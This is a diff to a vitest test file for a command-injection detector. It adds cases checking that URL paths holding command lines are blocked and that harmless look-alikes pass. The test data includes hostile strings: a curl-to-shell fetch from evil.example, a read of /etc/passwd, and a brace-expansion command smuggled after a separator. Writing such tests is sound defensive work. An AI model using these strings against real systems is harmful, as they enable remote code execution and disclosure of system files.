@@ -1,5 +1,5 @@
 import { expect, test } from 'vitest'
-import { keepsContract } from '../contract.ts'
+import { isBlocked, keepsContract } from '../contract.ts'
 import { commandInjection } from './detector.ts'
 import { attacks, harmless, pieces } from './samples.ts'
 
@@ -12,4 +12,26 @@ test('explains what it reads', () => {
     { type: 'word', start: 6, end: 7 },
   ])
   expect(commandInjection.explain?.('$(id)'.repeat(100))).toHaveLength(64)
+})
+
+test.each([
+  '/api/bash -c id',
+  '/curl http://evil.example/x.sh | sh',
+  '/api/ls -la /',
+  '/x/cat /etc/passwd',
+  '/cmd.exe /c dir',
+])('a folder of a path is a command line: %j', (path) => {
+  expect(isBlocked(commandInjection, path, 'path')).toBe(true)
+})
+
+test.each(['/whoami', '/files/cut 2.pdf', '/docs/how to find -x.pdf', '/api/curl', '/photos/cat and dog.jpg', '/wget'])(
+  'paths pass: %j',
+  (path) => {
+    expect(isBlocked(commandInjection, path, 'path')).toBe(false)
+  },
+)
+
+test('braces behind a separator are a command and its arguments, with nothing that tells a file', () => {
+  expect(isBlocked(commandInjection, '8.8.8.8;{cat,flag}')).toBe(true)
+  expect(isBlocked(commandInjection, 'red;{green,blue}')).toBe(false)
 })
